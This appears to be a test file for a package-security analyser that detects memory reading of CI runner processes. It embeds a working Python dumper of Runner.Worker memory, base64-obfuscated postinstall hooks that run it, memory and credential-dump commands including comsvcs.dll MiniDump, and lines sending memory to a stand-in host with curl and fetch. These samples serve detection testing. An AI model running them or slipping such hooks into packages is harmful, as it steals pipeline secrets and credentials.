import assert from 'node:assert/strict';
import { analysePackage } from '../../../../server/src/artifacts/analysis/analyse.js';
import { shellSignals } from '../../../../server/src/artifacts/analysis/shell/signals.js';
import { readsMemory } from '../../../../server/src/artifacts/analysis/shell/process-memory.js';
import { packageOf } from '../../../support/artifacts.js';

const PYTHON = `import os, re, sys
def runner():
    for p in os.listdir('/proc'):
        if p.isdigit() and b'Runner.Worker' in open('/proc/' + p + '/cmdline', 'rb').read():
            return p
pid = runner()
with open('/proc/' + pid + '/maps') as maps, open('/proc/' + pid + '/mem', 'rb', 0) as mem:
    for line in maps:
        sys.stdout.buffer.write(mem.read())
`;
const BASE64 = Buffer.from(PYTHON).toString('base64');

const READ: readonly string[] = [
  PYTHON,
  'open(f"/proc/{pid}/mem", "rb")',
  'open("/proc/%s/mem" % pid)',
  "open(os.path.join('/proc', pid, 'mem'))",
  "(Path('/proc') / pid / 'mem').open('rb')",
  'sudo cat /proc/$PID/mem',
  'dd if=/proc/$(pgrep -f Runner.Worker)/mem of=/tmp/m',
  'strings /proc/[0-9]*/mem',
  'sudo gcore -o /tmp/core $PID',
  'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 620 C:\\a.dmp full',
];
const LEFT_ALONE: readonly string[] = [
  'cat /proc/meminfo',
  'open("/proc/self/mem")',
  'cat /proc/self/maps; cat /proc/$PID/cmdline',
  'open("/proc/" + str(os.getpid()) + "/mem")',
  'cat /proc/cpuinfo; free > /tmp/mem',
  'ps -eo pid,rss,comm',
];

const kindsOf = (files: Readonly<Record<string, string>>): readonly string[] =>
  analysePackage(packageOf(files)).behaviours.map(({ kind, moment }) => `${kind} ${moment}`);
const atInstall = (postinstall: string, more: Readonly<Record<string, string>>): readonly string[] =>
  kindsOf({ 'package.json': JSON.stringify({ scripts: { postinstall } }), ...more });

describe('the memory of other programs', () => {
  for (const text of READ) it(`is read by ${text.slice(0, 60)}`, () => assert.ok(readsMemory(text)));
  for (const text of LEFT_ALONE) it(`is not read by ${text.slice(0, 60)}`, () => assert.ok(!readsMemory(text)));

  it('is that of a CI runner for whoever looks for that', () => {
    for (const files of [
      {
        'a.js': `require('child_process').spawnSync('sudo', ['python3', '-c', Buffer.from('${BASE64}', 'base64').toString()])`,
      },
      {
        'a.js': `require('child_process').spawnSync('python3', ['-c', "import base64;exec(base64.b64decode('${BASE64}'))"])`,
      },
      { 'a.js': `require('child_process').execSync('echo ${BASE64} | base64 -d > /tmp/a.py; sudo python3 /tmp/a.py')` },
    ])
      assert.ok(atInstall('node a.js', files).includes('runner-memory install'), JSON.stringify(files));
    assert.ok(atInstall('python3 a.py', { 'a.py': PYTHON }).includes('runner-memory install'));
    assert.ok(
      atInstall('sh a.sh', { 'a.sh': `sudo python3 - <<'END'\n${PYTHON}END\n` }).includes('runner-memory install'),
    );
    assert.ok(
      shellSignals(`cat /proc/$(pgrep -f Runner.Worker)/mem | grep -aoE '"isSecret":true' | base64`).some(
        ({ kind }) => kind === 'runner-memory',
      ),
    );
  });

  it('says nothing where no secrets of a job are looked for', () => {
    assert.ok(!shellSignals('pgrep -f Runner.Worker && echo in a job').some(({ kind }) => kind === 'runner-memory'));
    assert.ok(!shellSignals('cat /proc/$PID/mem | strings').some(({ kind }) => kind === 'runner-memory'));
  });

  it('is a secret where it is sent away', () => {
    const { flows } = analysePackage(
      packageOf({
        'package.json': '{"scripts":{"postinstall":"node a.js"}}',
        'a.js': `const m = require('child_process').execSync('sudo cat /proc/$PID/mem'); fetch('https://h.invalid', { method: 'POST', body: m })`,
      }),
    );
    assert.ok(flows.some(({ source, sink }) => source === 'credential-file' && sink === 'network'));
    assert.ok(
      shellSignals('cat /proc/$PID/mem | curl -d @- https://h.invalid').some(
        (one) => one.kind === 'command-sends-data',
      ),
    );
  });
});
